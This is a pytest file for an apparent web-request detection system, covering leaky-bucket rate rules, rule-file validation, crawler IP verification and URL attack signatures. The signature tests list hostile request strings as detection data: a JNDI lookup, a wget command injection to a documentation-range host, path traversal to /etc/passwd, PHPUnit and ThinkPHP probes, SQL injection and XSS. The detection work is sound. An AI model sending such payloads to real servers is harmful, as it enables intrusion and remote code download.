"""Rules, their buckets and signatures: what fills, when it overflows, who is spared, and that no order changes it."""

from __future__ import annotations

from itertools import pairwise
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detectors import bots
from detectors.buckets import Buckets
from detectors.columns import Finding
from detectors.hits import Hits
from detectors.rule_file import gathered
from detectors.rules import Ruleset
from detectors.signatures import joined
from schemas.crawlers import Origins
from schemas.errors import FileError
from schemas.ranges import ranges
from stream import rule_source

T0_MS = 1_767_571_200_000
RULES = b"""
rules:
  - {name: plain, means: requests, where: {status: 404}, capacity: 3, leak: 700ms, answer: deny}
  - {name: different, means: urls, where: {status: 404}, distinct: url, capacity: 3, leak: 700ms, answer: challenge}
  - {name: first, means: requests, where: {status: 500}, answer: deny}
"""


def ruleset(text: bytes = RULES) -> Ruleset:
    return gathered([("rules.yaml", text)])


def nobody(owners: np.ndarray, _: np.ndarray) -> np.ndarray:
    return np.zeros(len(owners), np.bool_)


def everybody(owners: np.ndarray, _: np.ndarray) -> np.ndarray:
    return np.ones(len(owners), np.bool_)


def hit(rule: int, at_ms: int, entity: int = 7, value: int = 0, n: int = 1, last_ms: int | None = None) -> Hits:
    ms, u = T0_MS + at_ms, np.uint64
    return Hits(
        rule=np.array([rule], np.int16),
        kind=np.array([0], np.uint8),
        entity=np.array([entity], u),
        pane_s=np.array([ms // 1000]),
        first_ms=np.array([ms]),
        last_ms=np.array([ms if last_ms is None else T0_MS + last_ms]),
        route=np.array([1], u),
        value=np.array([value], u),
        sign=np.array([0], u),
        example=np.array([9], u),
        n=np.array([n]),
        answered=np.array([0]),
    )


def crossings(found: list[Finding]) -> list[tuple[str, int, int]]:
    """Rule, owner and time of what began."""
    return [(f.family, f.entity, f.crossed_ms - T0_MS) for f in found if f.at_s == f.pane_s]


def reference(events: list[tuple[int, int, int, int]]) -> list[tuple[str, int, int]]:
    """Buckets one request at a time, as they are told in words; levels in requests."""
    out = []
    buckets: dict[tuple[int, int], tuple[float, int, set[int], int]] = {}
    for at_ms, rule, entity, value in events:
        level, last_ms, seen, overflowed_ms = buckets.get((rule, entity), (0.0, at_ms, set(), -10_000_000))
        capacity, leak_ms = ((3, 700), (3, 700), (0, 60_000))[rule]
        level = max(0.0, level - (at_ms - last_ms) / leak_ms)
        if level < 1e-9:
            level, seen = 0.0, set()
        fills = rule != 1 or value not in seen
        if fills:
            level += 1
            seen = seen | {value}
        if fills and level > capacity + 1e-9:
            if at_ms - overflowed_ms > 20 * 60_000:
                out.append((("plain", "different", "first")[rule], entity, at_ms))
            overflowed_ms = at_ms
            level = min(level, capacity + 1)
        buckets[rule, entity] = (level, at_ms, seen, overflowed_ms)
    return sorted(out, key=lambda c: (c[2], c[1], c[0]))


events = st.lists(
    st.tuples(st.integers(0, 400).map(lambda step: step * 50), st.integers(0, 2), st.integers(1, 3), st.integers(1, 6)),
    min_size=1,
    max_size=120,
    unique_by=lambda e: (e[0], e[1], e[2]),
)


@settings(max_examples=60, deadline=None)
@given(events, st.lists(st.integers(1, 21), max_size=4), st.data())
def test_buckets_overflow_when_one_request_after_the_other_says_so_however_panes_are_dealt_out(
    made: list[tuple[int, int, int, int]], cuts: list[int], data: st.DataObject
) -> None:
    rules = ruleset()
    made = sorted(made)
    # Within a pane a value is told once, at its first time: so it is asked once.
    once: dict[tuple[int, int, int, int], tuple[int, int, int, int]] = {}
    for at_ms, rule, entity, value in made:
        once.setdefault((at_ms // 1000, rule, entity, value if rule == 1 else at_ms), (at_ms, rule, entity, value))
    made = sorted(once.values())
    hits = [hit(rule, at_ms, entity, value if rule == 1 else 0) for at_ms, rule, entity, value in made]
    if any(  # requests of a pane that are all alike stand evenly between the first and the last: see the next test
        rule != 1 and sum(e[0] // 1000 == at_ms // 1000 and e[1:3] == (rule, entity) for e in made) > 2
        for at_ms, rule, entity, _ in made
    ):
        hits, made = [h for h, e in zip(hits, made, strict=True) if e[1] == 1], [e for e in made if e[1] == 1]
    buckets, found = Buckets(rules), []
    edges = sorted({0, *cuts, 22})
    for low, high in pairwise(edges):
        part = [h for h in hits if low <= int(h.pane_s[0]) - T0_MS // 1000 < high]
        found += buckets.close(Hits.concat(data.draw(st.permutations(part))), nobody)
        again = Buckets(rules)
        again.restore(buckets.arrays())
        buckets = again
    assert sorted(crossings(found), key=lambda c: (c[2], c[1], c[0])) == reference(made)


def test_requests_that_are_alike_stand_evenly_within_their_pane() -> None:
    rules = ruleset()
    (told,) = Buckets(rules).close(hit(0, 0, n=5, last_ms=400), nobody)  # at 0, 100, 200, 300: the fourth
    assert (told.crossed_ms - T0_MS, told.crossed_after) == (300, 3)
    assert Buckets(rules).close(hit(0, 0, n=2, last_ms=900), nobody) == []
    slow = Hits.concat([hit(0, second * 1000, n=1) for second in range(60)])
    assert Buckets(rules).close(slow, nobody) == [], "one a second leaks away at one in 700 ms"


def test_a_look_at_open_panes_says_early_what_their_close_will_say_and_changes_nothing() -> None:
    buckets = Buckets(ruleset())
    buckets.close(Hits.concat([hit(0, 0), hit(0, 100)]), nobody)
    open_ = Hits.concat([hit(0, 1000), hit(0, 1010), hit(0, 1020), hit(2, 1500, entity=8)])
    early = buckets.look(open_, nobody)
    assert crossings(early) == crossings(buckets.look(open_, nobody)) == crossings(buckets.close(open_, nobody))
    assert len(early) == 2


def test_an_incident_is_told_on_and_another_begins_only_after_twenty_quiet_minutes() -> None:
    buckets = Buckets(ruleset())
    found = [f for at in (0, 5, 600, 1500, 2800) for f in buckets.close(hit(2, at * 1000), nobody)]
    began = [(f.at_s - T0_MS // 1000, f.pane_s - T0_MS // 1000) for f in found]
    assert began == [(0, 0), (5, 0), (600, 0), (1500, 0), (2800, 2800)]


def test_who_has_a_history_meets_less_than_a_newcomer() -> None:
    for known, answer in ((nobody, "deny"), (everybody, "throttle")):
        (told,) = Buckets(ruleset()).close(hit(2, 0), known)
        assert told.answer == answer


def test_a_rule_that_was_changed_begins_anew() -> None:
    before = Buckets(ruleset())
    before.close(Hits.concat([hit(0, at) for at in (0, 10)]), nobody)
    after = Buckets(ruleset(RULES.replace(b"capacity: 3", b"capacity: 2")))
    after.restore(before.arrays())
    assert after.close(hit(0, 20), nobody) == []


def test_a_crowd_of_owners_is_held_within_the_bound_and_who_is_nearly_full_stays() -> None:
    buckets = Buckets(ruleset(), buckets_max=100)
    buckets.close(Hits.concat([hit(0, at, entity=5) for at in (0, 1, 2)]), nobody)
    for second in range(1, 4):
        crowd = Hits.concat([hit(0, second * 300 + i // 10, entity=1000 * second + i) for i in range(300)])
        buckets.close(crowd, nobody)
        assert len(buckets) <= 100 + 300
    assert buckets.evicted > 0
    assert [f.entity for f in buckets.close(Hits.concat([hit(0, 1300, entity=5, n=3, last_ms=1302)]), nobody)] == [5]
    assert len(buckets) <= 100


def rule(words: str, name: str = "a", answer: str = "deny") -> bytes:
    return (
        f"rules:\n  - {{{', '.join(filter(None, (f'name: {name}', 'means: b', f'answer: {answer}', words)))}}}".encode()
    )


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (rule(""), "rules.yaml:2: rules.rules[0]: asks for every request"),
        (rule("where: {status: 4}"), "is no status"),
        (rule("where: {status: 404}", answer="ban"), "notice, throttle, challenge, deny"),
        (rule("where: {status: 404}, known: deny"), "one of notice, throttle"),
        (rule("where: {status: 404}, capacity: 3"), "never forgets"),
        (rule("where: {status: 404}", name="guess"), "`guess` is taken"),
        (rule("sign: exploits"), "which nobody described"),
        (rule("where: {status: 404}, leak: 3 days"), "500ms, 10s, 2m or 1h"),
        (rule("where: {status: 404}, distinct: url, capacity: 90, leak: 1s"), "at most 63"),
        (b"signatures:\n  - {name: a, group: g, title: t, has: [ABC]}", "letters in lower case"),
        (b"signatures:\n  - {name: a, group: g, title: t, has: [abc], match: 'a(?=b)'}", "look-around"),
        (b"rulez: []", "did you mean `rules`"),
    ],
)  # fmt: skip
def test_a_file_of_rules_that_cannot_be_taken_is_told_with_line_field_and_fix(text: bytes, said: str) -> None:
    with pytest.raises(FileError) as caught:
        ruleset(text)
    assert said in str(caught.value)


def borne(url: str, column: str = "url") -> set[str]:
    """Groups of signatures a text bears."""
    shipped = rule_source.shipped()
    groups = {s.name: s.group for s in shipped.rules.signatures}
    found = shipped.signs[column].borne(*joined([url]), lambda _: url)
    return {groups[name] for names in found.values() for name in names}


@pytest.mark.parametrize(
    ("url", "group"),
    [
        ("/?x=${jndi:ldap://203.0.113.1/a}", "exploit"),
        ("/?x=%2524%257Bjndi%253Aldap", "exploit"),  # encoded twice
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "exploit"),
        ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "exploit"),
        ("/cgi-bin/%%32%65%%32%65/bin/id", "exploit"),
        ("/owa/auth/x@y.example/PowerShell/", "exploit"),
        ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array", "exploit"),
        ("/ping?host=1.1.1.1;wget+http://203.0.113.1/a", "exploit"),
        ("/../../../../etc/passwd", "exploit"),
        ("/download?file=../../secret", "traversal"),
        ("/q?a=1%20UNION%20SELECT%20user,password%20FROM%20users--", "sqli"),
        ("/q?a=1'%20or%20'1'='1", "sqli"),
        ("/q?a=%3Csvg/onload=alert(1)%3E", "xss"),
        ("/.git/config", "sensitive"),
        ("/site/wp-config.php.bak", "wordpress-config"),
        ("/blog/wp-login.php", "wordpress"),
        ("/phpMyAdmin/index.php", "admin"),
    ],
)
def test_a_request_bears_the_sign_of_what_it_tries(url: str, group: str) -> None:
    assert group in borne(url)


@pytest.mark.parametrize(
    "url",
    [
        "/",
        "/items/4711?page=2&sort=price",
        "/search?q=union+station+select+seats",
        "/search?q=oliver%27s+twist+and+shout",
        "/search?q=a+%3C+b+and+c",
        "/search?q=how+to+use+curl",
        "/blog/2024/../2025/",  # one is not enough for an answer, and that it has
        "/wp-content/themes/shop/style.css?ver=6.4",
        "/assets/app.3f2a.js.map",
        "/api/v2/orders/7f9c/export.zip",
        "/.well-known/openid-configuration",
        "/config/theme.json",
        "/docs/shell-scripting/index.html",
        "/users/alfa/profile",
    ],
)
def test_a_request_of_every_day_bears_none(url: str) -> None:
    assert borne(url) <= {"traversal"} if ".." in url else borne(url) == set()


def test_what_is_shipped_says_its_source_and_date_and_what_would_have_avoided_it() -> None:
    rules = rule_source.rules("builtin,crowdsec")
    for rule in rules.rules:
        assert "2026" in rule.source
        assert rule.behaviour
        assert rule.ids
    assert all(rule.avoid for rule in rules.rules if not rule.name.startswith("cs-"))
    assert all("2026" in signature.source for signature in rules.signatures)


def test_a_crawler_is_known_by_its_published_ranges_in_either_form() -> None:
    published = b'{"creationTime": "x", "prefixes": [{"ipv4Prefix": "192.0.2.0/25"}, {"ipv6Prefix": "2001:db8::/32"}]}'
    declared = rule_source.known_bots()
    for data in (published, b"# ours\n192.0.2.0/25\n2001:db8::/32 # six\n"):
        known = bots.Bots(declared, Origins({"googlebot": ranges(data, "googlebot.json")}))
        bot = known.claimed("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
        assert bot is not None
        asked = ("192.0.2.1", "192.0.2.200", "2001:db8::9", "::ffff:192.0.2.1", "x")
        assert [known.comes_from(bot, ip) for ip in asked] == [True, False, True, True, None]
        other = known.claimed("bingbot/2.0")
        assert other is not None
        assert known.comes_from(other, "192.0.2.1") is None, "of whom nobody said where he comes from"
    assert bots.Bots(declared).claimed("Mozilla/5.0 Firefox/130.0") is None


def test_an_address_that_was_looked_up_is_verified_and_says_nothing_of_others(tmp_path: Path) -> None:
    (tmp_path / "googlebot.verified.txt").write_text("192.0.2.1\n")
    (tmp_path / "bingbot.verified.txt").write_text("192.0.2.7\n")
    (tmp_path / "bingbot.json").write_text('{"prefixes": [{"ipv4Prefix": "198.51.100.0/24"}]}')
    (tmp_path / "bingbot.txt").write_text("203.0.113.0/24\n")
    known = rule_source.bots(tmp_path)

    def comes(agent: str, *ips: str) -> list[bool | None]:
        bot = known.claimed(agent)
        assert bot is not None
        return [known.comes_from(bot, ip) for ip in ips]

    assert comes("Googlebot/2.1", "192.0.2.1", "192.0.2.2") == [True, None]
    ranges_of_bing = ("198.51.100.9", "203.0.113.9", "192.0.2.7", "192.0.2.8")
    assert comes("bingbot/2.0", *ranges_of_bing) == [True, True, True, False], "two files of one name are one"


def test_a_crawler_of_ones_own_is_declared_beside_its_ranges(tmp_path: Path) -> None:
    (tmp_path / "ahrefsbot.txt").write_text("192.0.2.0/24\n")
    with pytest.raises(FileError, match=r"'ahrefsbot' is no crawler we know.*declare it"):
        rule_source.bots(tmp_path)
    (tmp_path / "ours.yaml").write_text("bots:\n  - {name: ahrefsbot, agent: [AhrefsBot], names: [ahrefs.com]}\n")
    known = rule_source.bots(tmp_path)
    bot = known.claimed("Mozilla/5.0 (compatible; AhrefsBot/7.0)")
    assert bot is not None
    assert [known.comes_from(bot, ip) for ip in ("192.0.2.1", "198.51.100.1")] == [True, False]
    assert known.claimed("Googlebot/2.1") is not None


@pytest.mark.parametrize("data", [b"{}", b"", b"300.0.0.0/8", b"\xff\xfe", b'{"prefixes": [{}]}', b"[1]"])
def test_a_file_of_ranges_that_cannot_be_read_is_told(data: bytes) -> None:
    with pytest.raises(FileError, match=r"googlebot.json.*ranges"):
        ranges(data, "googlebot.json")
